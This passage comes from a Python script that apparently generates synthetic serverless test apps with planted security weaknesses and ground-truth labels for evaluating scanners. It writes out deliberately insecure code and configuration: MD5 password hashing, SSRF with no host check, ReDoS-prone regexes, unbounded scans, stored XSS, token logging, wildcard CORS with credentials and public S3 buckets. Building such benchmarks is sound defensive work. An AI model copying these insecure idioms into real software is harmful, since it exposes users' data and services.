        h = 'crypto.createHash("md5").update(password).digest("hex")' if vuln else "await bcrypt.hash(password, 12)"
        pre = [f"async function storePassword{u}(password) {{", f"!  const digest = {h};", "  await save(digest);", "}"]
        return pre, [f"!await storePassword{u}({c.body('password')});"]

    def ssrf(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
        guard = [] if vuln else ["  if (!ALLOWED_HOSTS.includes(host)) throw new Error(host);"]
        pre = [f"function probe{u}(host) {{", *guard, "!  return net.connect(443, host);", "}"]
        return pre, [f"!probe{u}({c.q('host')});"]

    def redos(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
        test = r"/^(\w+\s?)*$/" if vuln else "/^[a-z0-9-]{1,32}$/"
        pre = [f"function validName{u}(name) {{", f"!  return {test}.test(name);", "}"]
        return pre, [f"!if (!validName{u}({c.body('name')})) {{", "  " + c.deny(400), "}"]

    def amplification(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
        n = f"parseInt({c.q('count')}, 10)"
        pre = [
            f"async function page{u}(limit) {{",
            '!  return ddb.send(new ScanCommand({ TableName: "items", Limit: limit }));',
            "}",
        ]
        return pre, [f"!const rows = await page{u}({n if vuln else f'Math.min({n}, 100)'});"]

    def stored_xss(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
        ctype = '"text/html"' if vuln else '"text/plain"'
        put = (
            "!  await s3.send(new PutObjectCommand({ Bucket: PAGES, Key: `${slug}.html`, Body: html, "
            + f"ContentType: {ctype} }}));"
        )
        pre = [f"async function publish{u}(slug, html) {{", put, "}"]
        return pre, [f"!await publish{u}({c.body('slug')}, {c.body('html')});"]

    def log_credential(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
        log = '!  console.log("token", token);' if vuln else '!  console.log("token present", Boolean(token));'
        return [f"function audit{u}(token) {{", log, "}"], [f"!audit{u}({c.hdr('Authorization')});"]

    return {
        "password-hash": password,
        "socket-ssrf": ssrf,
        "redos": redos,
        "amplification": amplification,
        "stored-xss": stored_xss,
        "log-credential": log_credential,
    }


HELPERS_PY = _py_helpers()
HELPERS_JS = _js_helpers()


def make_case(cat: str, c: Ctx, rng: random.Random, vuln: bool, u: int) -> Idiom:
    """A case of `cat`: a third of the categories that carry request data go through a helper."""
    if cat in HELPERS_PY and rng.random() < 0.35:
        return helper_case(cat, c, vuln, u)
    return CATALOGUE[cat](c, rng, vuln)


# ------------------------------------------------------------------------------------------------
# app assembly
# ------------------------------------------------------------------------------------------------

PY_HEADER = [
    "import base64",
    "import hashlib",
    "import io",
    "import json",
    "import logging",
    "import os",
    "import re",
    "import secrets",
    "import socket",
    "import ssl",
    "import subprocess",
    "import urllib.request",
    "from html import escape",
    "",
    "import bcrypt",
    "import boto3",
    "import httpx",
    "import jwt",
    "import psycopg2",
    "import pymysql",
    "import requests",
    "from jose import jwt as jose_jwt",
    "from PIL import Image",
    "",
    "from lib.auth import verify_token",
    "from lib.client import ApiClient",
    "",
    "logger = logging.getLogger()",
    's3 = boto3.client("s3")',
    'sm = boto3.client("secretsmanager")',
    'ssm = boto3.client("ssm")',
    'cognito = boto3.client("cognito-idp")',
    'table = boto3.resource("dynamodb").Table("items")',
    'users = boto3.resource("dynamodb").Table("users")',
    'KEY = os.environ["JWT_KEY"]',
    'PUBLIC_KEY = os.environ["JWT_PUBLIC_KEY"]',
    'PAGES = os.environ["PAGES_BUCKET"]',
    'PARTNER_URL = "https://partner.example.com/v1/status"',
    'DEBUG_HOST = "203.0.113.7"',
    'ALLOWED_ORIGINS = ("https://app.example.com", "https://admin.example.com")',
    'ALLOWED_HOSTS = ("cache.internal.example.com", "queue.internal.example.com")',
    r'SLUG_RE = re.compile(r"^([a-z0-9]+-?)+$")',
]

JS_HEADER = [
    '"use strict";',
    'const crypto = require("crypto");',
    'const https = require("https");',
    'const net = require("net");',
    'const tls = require("tls");',
    'const { spawn } = require("child_process");',
    'const bcrypt = require("bcryptjs");',
    'const jwt = require("jsonwebtoken");',
    'const jose = require("jose");',
    'const mysql = require("mysql2/promise");',
    'const escapeHtml = require("escape-html");',
    'const { Client } = require("pg");',
    'const { S3Client, PutObjectCommand } = require("@aws-sdk/client-s3");',
    'const { SecretsManagerClient, GetSecretValueCommand } = require("@aws-sdk/client-secrets-manager");',
    'const { SSMClient, GetParameterCommand } = require("@aws-sdk/client-ssm");',
    "const { CognitoIdentityProviderClient, AdminCreateUserCommand } =",
    '  require("@aws-sdk/client-cognito-identity-provider");',
    'const { DynamoDBClient } = require("@aws-sdk/client-dynamodb");',
    'const { DynamoDBDocumentClient, ScanCommand, DeleteCommand } = require("@aws-sdk/lib-dynamodb");',
    'const { verifyToken, save, load, ApiClient } = require("./lib");',
    "",
    "const s3 = new S3Client({});",
    "const sm = new SecretsManagerClient({});",
    "const ssmClient = new SSMClient({});",
    "const idp = new CognitoIdentityProviderClient({});",
    "const ddb = DynamoDBDocumentClient.from(new DynamoDBClient({}));",
    "const KEY = process.env.JWT_KEY;",
    "const SECRET_BYTES = new TextEncoder().encode(process.env.JWT_KEY);",
    "const PAGES = process.env.PAGES_BUCKET;",
    "const RDS_CA = process.env.RDS_CA;",
    "const TLS = { ca: RDS_CA };",
    'const PARTNER_URL = "https://partner.example.com/v1/status";',
    'const DEBUG_HOST = "203.0.113.7";',
    'const ALLOWED_ORIGINS = ["https://app.example.com", "https://admin.example.com"];',
    'const ALLOWED_HOSTS = ["cache.internal.example.com", "queue.internal.example.com"];',
    "const SLUG_RE = /^([a-z0-9]+-?)+$/;",
]


@dataclass(slots=True)
class File:
    """A module being assembled: its lines and the planted ranges found in them (marked "!")."""

    path: str
    lines: list[str] = field(default_factory=list)

    def add(self, lines: list[str], indent: str = "") -> tuple[int, int] | None:
        """Append lines; the planted range (first and last "!" line), if any."""
        first = last = 0
        for text in lines:
            if text.startswith("!"):
                text = text[1:]
                last = len(self.lines) + 1
                first = first or last
            self.lines.append(indent + text if text else "")
        return (first, last) if first else None


@dataclass(slots=True)
class WeakApp:
    kind: str
    root: Path
    files: dict[str, File] = field(default_factory=dict)
    truth: list[Truth] = field(default_factory=list)
    extra: dict[str, str] = field(default_factory=dict)

    def file(self, path: str, header: list[str]) -> File:
        if path not in self.files:
            self.files[path] = File(path, list(header))
        return self.files[path]

    def record(
        self, f: File, span: tuple[int, int] | None, cat: str, vuln: bool, ctx: Ctx, idiom: Idiom, route: str
    ) -> None:
        if span is None:  # a catalogue bug: every idiom marks its planted lines
            raise AssertionError(f"{cat} idiom {idiom.construct} has no planted line")
        t = Truth(
            f.path,
            span[0],
            span[1],
            cat,
            WEAK_FAMILY[cat],
            vuln,
            ctx.language,
            ctx.shape,
            idiom.construct,
            idiom.twin,
            route,
        )
        self.truth.append(t)

    def write(self) -> None:
        write_files(self.root, {path: f.lines for path, f in self.files.items()}, self.extra)


def draw(rng: random.Random, count: int) -> list[tuple[str, bool]]:
    """`count` cases: categories in a shuffled round-robin (each app sees most of them), vulnerable 60 %."""
    cats = list(CODE_CATEGORIES)
    rng.shuffle(cats)
    return [(cats[i % len(cats)], rng.random() < 0.6) for i in range(count)]


def build_lambda(app: WeakApp, rng: random.Random, cases: list[tuple[str, bool]], iac: random.Random) -> None:
    ctx = Ctx(app.kind)
    runtime = "python3.12" if ctx.py else "nodejs22.x"
    sls = app.file(
        "serverless.yml", [f"service: {app.root.name}", "", "provider:", "  name: aws", f"  runtime: {runtime}"]
    )
    sls.add(["", "functions:"])
    for n, (cat, vuln) in enumerate(cases, 1):
        idiom = make_case(cat, ctx, rng, vuln, n)
        name = f"h{n:02d}"
        if ctx.py:
            f = app.file(f"src/{name}.py", [f'"""Function {name}."""', "", *PY_HEADER])
            span_top = f.add(idiom.top)
            span_pre = f.add(idiom.pre)
            f.add(["", "", "def handler(event, context):"])
            span_body = f.add(idiom.body, "    ")
        else:
            f = app.file(f"src/{name}.js", list(JS_HEADER))
            span_top = f.add(idiom.top)
            span_pre = f.add(idiom.pre)
            f.add(["", "exports.handler = async (event) => {"])
            span_body = f.add(idiom.body, "  ")
            f.add(["};"])
        app.record(f, span_top or _merge(span_pre, span_body), cat, vuln, ctx, idiom, f"/{name}")
        sls_function(app, sls, iac, name)
    sls_buckets(app, sls, iac)
    if ctx.py:
        app.file("src/lib/__init__.py", [])
        app.file("src/lib/auth.py", ["def verify_token(token):", '    return token == "ok"'])
        app.file("src/lib/client.py", ["class ApiClient:", "    def __init__(self, key):", "        self.key = key"])
    else:
        app.file("src/lib.js", LIB_JS)


def _iac_record(app: WeakApp, f: File, span: tuple[int, int] | None, cat: str, vuln: bool, how: str) -> None:
    if span is None:
        raise AssertionError(f"{cat} has no planted line")
    twin = "" if vuln else how
    app.truth.append(Truth(f.path, span[0], span[1], cat, WEAK_FAMILY[cat], vuln, "iac", "serverless", how, twin, ""))


def sls_function(app: WeakApp, sls: File, rng: random.Random, name: str) -> None:
    """One function of serverless.yml: a public REST route, sometimes with reserved concurrency or CORS planted."""
    sls.add([f"  {name}:", f"    handler: src/{name}.handler"])
    if rng.random() < 0.35:
        vuln = rng.random() < 0.6
        # a handful of slots a few slow requests hold for the whole timeout, or enough for the API's throttle
        slots, timeout = (rng.randint(1, 10), rng.choice((10, 29))) if vuln else (rng.choice((200, 500)), 10)
        span = sls.add([f"    timeout: {timeout}", f"!    reservedConcurrency: {slots}"])
        _iac_record(app, sls, span, "concurrency", vuln, "reserved-concurrency" if vuln else "ample-concurrency")
    sls.add(["    events:", "      - http:", f"          path: /{name}", "          method: post"])
    if rng.random() < 0.35:
        vuln = rng.random() < 0.6
        origin = "'*'" if vuln else "https://app.example.com"
        lines = ["!          cors:", f"!            origin: {origin}", "!            allowCredentials: true"]
        _iac_record(app, sls, sls.add(lines), "cors-credentials", vuln, "star-credentials" if vuln else "one-origin")


_BUCKET_VULN = {
    "public-read-acl": ["!        AccessControl: PublicRead"],
    "public-read-write-acl": ["!        AccessControl: PublicReadWrite"],
    "block-off": [
        "!        PublicAccessBlockConfiguration:",
        "!          BlockPublicAcls: false",
        "!          BlockPublicPolicy: false",
        "!          IgnorePublicAcls: false",
        "!          RestrictPublicBuckets: false",
    ],
}
_BUCKET_SAFE = {
    "private-acl": ["!        AccessControl: Private"],
    "block-on": [
        "!        PublicAccessBlockConfiguration:",
        "!          BlockPublicAcls: true",
        "!          BlockPublicPolicy: true",
        "!          IgnorePublicAcls: true",
        "!          RestrictPublicBuckets: true",
    ],
}


def sls_buckets(app: WeakApp, sls: File, rng: random.Random) -> None:
    """One or two buckets under `resources`, each public (ACL, switched-off block, `Principal: "*"` policy) or not."""
    sls.add(["", "resources:", "  Resources:"])
    for b in range(1, rng.randint(1, 2) + 1):
        vuln = rng.random() < 0.6
        if rng.random() < 0.35:
            principal = '"*"' if vuln else '{ AWS: !Sub "arn:aws:iam::${AWS::AccountId}:root" }'
            lines = [
                f"    Bucket{b}:",
                "      Type: AWS::S3::Bucket",
                f"    Bucket{b}Policy:",
                "      Type: AWS::S3::BucketPolicy",
                "      Properties:",
                f"        Bucket: !Ref Bucket{b}",
                "        PolicyDocument:",
                "          Statement:",
                "            - Effect: Allow",
                f"!              Principal: {principal}",
                "              Action: s3:GetObject",
                f'              Resource: !Sub "${{Bucket{b}.Arn}}/*"',
            ]
            how = "policy-star" if vuln else "policy-account"
        else:
            how, body = rng.choice(sorted((_BUCKET_VULN if vuln else _BUCKET_SAFE).items()))
            lines = [f"    Bucket{b}:", "      Type: AWS::S3::Bucket", "      Properties:", *body]
        _iac_record(app, sls, sls.add(lines), "public-bucket", vuln, how)


def build_framework(app: WeakApp, rng: random.Random, cases: list[tuple[str, bool]]) -> None:
    ctx = Ctx(app.kind)
    if ctx.py:
        header = [*PY_HEADER[:13], "from flask import Blueprint, jsonify, make_response, request", *PY_HEADER[13:]]
        header = [h.replace("from lib.", "from svc.lib.") for h in header]
        f = app.file("svc/routes.py", ['"""Routes."""', "", *header, "", 'bp = Blueprint("api", __name__)'])
    else:
        f = app.file(
            "src/routes.js", [*JS_HEADER, 'const express = require("express");', "", "const router = express.Router();"]
        )
    # module-level lines of every case first (constants), then the routes
    bodies: list[tuple[str, bool, Idiom, tuple[int, int] | None]] = []
    for n, (cat, vuln) in enumerate(cases, 1):
        idiom = make_case(cat, ctx, rng, vuln, n)
        bodies.append((cat, vuln, idiom, f.add(idiom.top)))
    for n, (cat, vuln, idiom, span_top) in enumerate(bodies, 1):
        route = f"/r{n:02d}"
        span_pre = f.add(idiom.pre)  # the helper just before the route that calls it
        if ctx.py:
            f.add(["", "", f'@bp.route("{route}", methods=["POST"])', f"def r{n:02d}():"])
            span = f.add(idiom.body, "    ")
        else:
            f.add(["", f'router.post("{route}", async (req, res) => {{'])
            span = f.add(idiom.body, "  ")
            f.add(["});"])
        app.record(f, span_top or _merge(span_pre, span), cat, vuln, ctx, idiom, route)
    if ctx.py:
        f.add([""])
        app.file("svc/__init__.py", [])
        app.file("svc/lib/__init__.py", [])
        app.file("svc/lib/auth.py", ["def verify_token(token):", '    return token == "ok"'])
        app.file("svc/lib/client.py", ["class ApiClient:", "    def __init__(self, key):", "        self.key = key"])
        app.file(
            "app.py",
            [
                '"""The Flask app, served by serverless-wsgi."""',
                "",
                "from flask import Flask",
                "",
                "from svc.routes import bp",
                "",
                "app = Flask(__name__)",
                'app.register_blueprint(bp, url_prefix="/api")',
            ],
        )
        app.extra["serverless.yml"] = FLASK_SLS.format(service=app.root.name)
        app.extra["requirements.txt"] = "flask==3.0.3\nbcrypt==4.2.0\npyjwt==2.9.0\nrequests==2.32.3\n"
    else:
        f.add(["", "module.exports = router;"])
        app.file("src/lib.js", LIB_JS)
        app.file(
            "src/app.js",
            [
                'const express = require("express");',
                'const serverless = require("serverless-http");',
                'const routes = require("./routes");',
                "",
                "const app = express();",
                "app.use(express.json());",
                'app.use("/api", routes);',
                "",
                "module.exports.handler = serverless(app);",
            ],
        )
        app.extra["serverless.yml"] = EXPRESS_SLS.format(service=app.root.name)


LIB_JS = [
    "exports.verifyToken = (token) => token === process.env.EXPECTED;",
    "exports.save = async () => {};",
    "exports.load = async () => ({});",
    "exports.ApiClient = class ApiClient { constructor(key) { this.key = key; } };",
]

FLASK_SLS = """service: {service}

provider:
  name: aws
  runtime: python3.12

plugins:
  - serverless-wsgi

custom:
  wsgi:
    app: app.app

functions:
  api:
    handler: wsgi_handler.handler
    events:
      - http:
          path: /{{proxy+}}
          method: ANY
"""

EXPRESS_SLS = """service: {service}

provider:
  name: aws
  runtime: nodejs22.x

functions:
  api:
    handler: src/app.handler
    events:
      - http:
          path: /{{proxy+}}
          method: ANY
"""


def generate(out: Path, apps: int, seed: int = DEFAULT_SEED, cases: tuple[int, int] = (12, 16)) -> list[Path]:
    """Write `apps` apps of each kind under `out` (emptied first); returns the app folders."""
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    written = []
    for kind in KINDS:
        for i in range(1, apps + 1):
            rng = random.Random(f"{seed}:weak:{kind}:{i}")  # per app: app i does not change when N grows
            app = WeakApp(kind, out / f"{kind}-{i}")
            drawn = draw(rng, rng.randint(*cases))
            if kind.endswith("lambda"):  # IaC cases from their own generator: the code cases stay as they were
                build_lambda(app, rng, drawn, random.Random(f"{seed}:weak-iac:{kind}:{i}"))
            else:
                build_framework(app, rng, drawn)
            app.write()
            write_truth(out, app.root, kind, seed, app.truth)
            written.append(app.root)
    return written


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--apps", type=int, default=5, help="apps per kind")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
    parser.add_argument("--out", type=Path, default=Path(__file__).resolve().parent / "out" / "gen-weaknesses")
    args = parser.parse_args()
    for root in generate(args.out, args.apps, args.seed):
        print(root)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
